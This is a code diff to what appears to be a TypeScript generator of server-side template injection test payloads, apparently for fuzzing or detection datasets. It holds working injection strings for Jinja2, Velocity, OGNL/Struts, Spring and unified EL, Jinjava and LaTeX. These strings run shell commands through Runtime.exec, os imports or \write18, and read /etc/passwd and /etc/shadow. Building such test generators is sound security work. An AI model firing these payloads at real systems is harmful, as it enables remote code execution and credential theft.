@@ -156,21 +156,7 @@ export const serverTemplateTemplates = family('other-injection/template', {
   'probe-hash': text`${value}#{${maybe(' ')}${product}${maybe(' ')}}`,
   'probe-erb': text`${value}<%=${maybe(' ')}${product}${maybe(' ')}%>`,
   'probe-other-marks': text`${value}${oneOf(text`*{${product}}`, text`@(${product})`, text`{${product}}`, text`\${{${product}}}`, text`{{=${product}}}`, text`{{{${product}}}}`, text`[[\${${product}}]]`, text`[(\${${product}})]`, text`~{${product}}`, text`{%= ${product} %}`, text`@{${product}}`, text`$[${product}]`, text`#set($x=${product})$x`, text`%{${product}}`, text`[[${product}]]`, text`{@math key="${integer(1, 9)}" method="multiply" operand="${integer(1, 9)}"/}`, text`<%- ${product} %>`, text`{!${product}}`, text`{{${product}}}[[${product}]]`, text`\${\{${product}\}}`, text`<\${${product}}`, text`{{html "${lowerWord}"}}`)}`,
-  'probe-polyglot': altered(
-    oneOf(
-      ...[
-        '${{<%[%\'"}}%\\',
-        '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
-        '${7*7}{{7*7}}',
-        "{{'${{<%[%'\"}}%\\.",
-        "<%'${{/#{@}}%>{{"
-      ]
-    ),
-    (written, rng) =>
-      rng.chance(0.6)
-        ? written.replaceAll('7', String(rng.int(2, 99)))
-        : `${rng.pick(['a', 'x', '', 'test', '1'])}${written}${rng.int(1, 99)}`
-  ),
+  'probe-polyglot': text`${maybe(lowerWord)}${repeat(oneOf(text`{{${product}}}`, text`\${${product}}`, text`<%= ${product} %>`, text`#{${product}}`, text`*{${product}}`, '${{<%[%\'"}}%\\', "{{'", '${{', '<%', '/#{@}}%>{{', "'}}"), 2, 5)}`,
   'python-object': text`${value}{{${maybe(' ')}${pythonWay}${maybe(text`|${words('safe e string join tojson list')}`, 0.1)}${maybe(' ')}}}`,
   'python-statement': text`{%${maybe('-')} ${oneOf(
     text`for ${letters(LOWER)} in ${anyObject}${subclasses} %}{% if '${words('warning catch_warnings Popen wrap_close')}' in ${letters(LOWER)}.${dunder('name')} %}{{ ${letters(LOWER)}()._module.${dunder('builtins')}[${quote}${dunder('import')}${quote}]('os').${opened} }}{% endif %}{% endfor`,
@@ -199,7 +185,7 @@ export const serverTemplateTemplates = family('other-injection/template', {
   velocity: text`${value}#set($${letters(LOWER, 1, 4)}=${oneOf(text`"")#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))#set($ex=$rt.getRuntime().exec('${run}'))`, text`$class.inspect("java.lang.Runtime").type.getRuntime().exec("${run}").waitFor())$${letters(LOWER, 1)}`, text`"e");$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("${run}")`, text`${product})$${letters(LOWER, 1)}`)}`,
   'spring-expression': text`${value}${oneOf('${', '#{', '*{', '[[${', '__${', '~{')}${javaRun}${oneOf('}', '}', '}]]', '}__::.x')}`,
   'thymeleaf-fragment': text`__\${${javaRun}}__::${maybe('.x')}${maybe(lowerWord)}`,
-  'spring-short-probe': text`${value}\${T(java.lang.${oneOf('System).getenv()', text`Math).${words('random() abs(-1)')}`, text`System).getProperty('${words('user.dir os.name java.version user.name')}')`, text`Class).forName('java.lang.Runtime')`)}}`,
+  'spring-short-probe': text`${value}${oneOf('${', '#{', '*{', '[[${')}${javaType(text`java.lang.${words('System Math Class Thread Integer String')}`)}.${oneOf('getenv()', text`${words('random abs max parseInt')}(${integer(0, 999)})`, text`getProperty('${words('user.dir os.name java.version user.name')}')`, text`forName('java.lang.${words('Runtime ProcessBuilder System')}')`, text`valueOf(${product})`)}}`,
   ognl: text`${value}%{${oneOf(text`(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)))).(#cmd='${run}')`, text`#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('${lowerWord}',${product})`, text`(#a=@java.lang.Runtime@getRuntime().exec('${run}'))`, text`@java.lang.Runtime@getRuntime().exec("${run}")`, text`#_memberAccess["allowStaticMethodAccess"]=true,@java.lang.Runtime@getRuntime().exec('${run}')`, text`(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec({"sh","-c","${run}"}))`, text`new java.lang.ProcessBuilder(new java.lang.String[]{"${simpleCommand}"}).start()`)}}`,
   'action-parameter': text`${words('redirect action redirectAction')}:${oneOf('${', '%{')}${oneOf(text`#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'${simpleCommand}'})).start()`, text`#matt=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest')`, product, text`@java.lang.Runtime@getRuntime().exec('${simpleCommand}')`)}}`,
   'unified-el': text`${value}${oneOf('${', '#{')}${oneOf(text`"".getClass().forName("java.lang.Runtime").getMethods()[${integer(1, 9)}].invoke("".getClass().forName("java.lang.Runtime")).exec("${run}")`, text`request.getClass().getClassLoader().loadClass("java.lang.Runtime")`, text`facesContext.getExternalContext().${words('setResponseHeader getSession')}("${lowerWord}","${lowerWord}")`, text`applicationScope`, text`pageContext.request.getSession().setAttribute("${lowerWord}","${lowerWord}")`, text`session.getAttribute("${words('user admin auth')}")`, text`class.forName('java.lang.Runtime').getRuntime().exec('${run}')`, text`param.${words('cmd x')}`, text`request.setAttribute("c","".getClass())`, text`header['user-agent'].getClass().forName('java.lang.Runtime')`, text`${words('sessionScope requestScope pageContext applicationScope')}.toString()`)}}`,
@@ -221,12 +207,11 @@ export const serverTemplateTemplates = family('other-injection/template', {
     text`@{[system "${run}"]}`,
     text`<!--#exec cmd="${run}"-->\${${product}}`
   ),
-  'liquid-jinjava': text`${value}${oneOf(text`{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval("new java.lang.String('${lowerWord}')")}}`, text`{{request.getClass()}}`, text`{{'${lowerWord}'.toUpperCase().getClass().getName()}}`, text`{{____int3rpr3t3r____}}`, text`{{ "a".getClass().forName("java.lang.Runtime") }}`, text`{{ request.server.environ }}`, text`{%include "../../../etc/passwd"%}`, text`{{'a'.toUpperCase()}}`, text`{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('${run}') }}`, text`{% set cmd = '${simpleCommand}' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime') %}`)}`,
+  'liquid-jinjava': text`${value}${oneOf(text`{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval("new java.lang.String('${lowerWord}')")}}`, text`{{request.getClass()}}`, text`{{'${lowerWord}'.toUpperCase().getClass().getName()}}`, text`{{____int3rpr3t3r____}}`, text`{{ "a".getClass().forName("java.lang.Runtime") }}`, text`{{ request.server.environ }}`, text`{%include "../../../etc/passwd"%}`, text`{{'${lowerWord}'.${words('toUpperCase concat charAt repeat')}(${maybe(integer(1, 9))})}}`, text`{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('${run}') }}`, text`{% set cmd = '${simpleCommand}' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime') %}`)}`,
   latex: oneOf(
-    text`\\input{/etc/passwd}`,
-    text`\\${words('input include lstinputlisting verbatiminput')}{${oneOf('/etc/passwd', '/etc/shadow', '../../config.php', text`|${simpleCommand}`)}}`,
+    text`\\${words('input include lstinputlisting verbatiminput')}{${oneOf('/etc/passwd', '/etc/shadow', text`../../${lowerWord}.php`, text`|${simpleCommand}`)}}`,
     text`\\immediate\\write18{${run}}`,
-    text`\\newread\\file \\openin\\file=/etc/passwd \\read\\file to\\line \\text{\\line} \\closein\\file`,
+    text`\\newread\\${lowerWord} \\openin\\${lowerWord}=/etc/passwd \\read\\${lowerWord} to\\line \\text{\\line}`,
     text`\\catcode\`\\$=12 \\input{/etc/${words('passwd shadow hosts')}}`,
     text`\\newwrite\\outfile\\openout\\outfile=${lowerWord}.tex\\write\\outfile{${lowerWord}}\\closeout\\outfile`
   ),
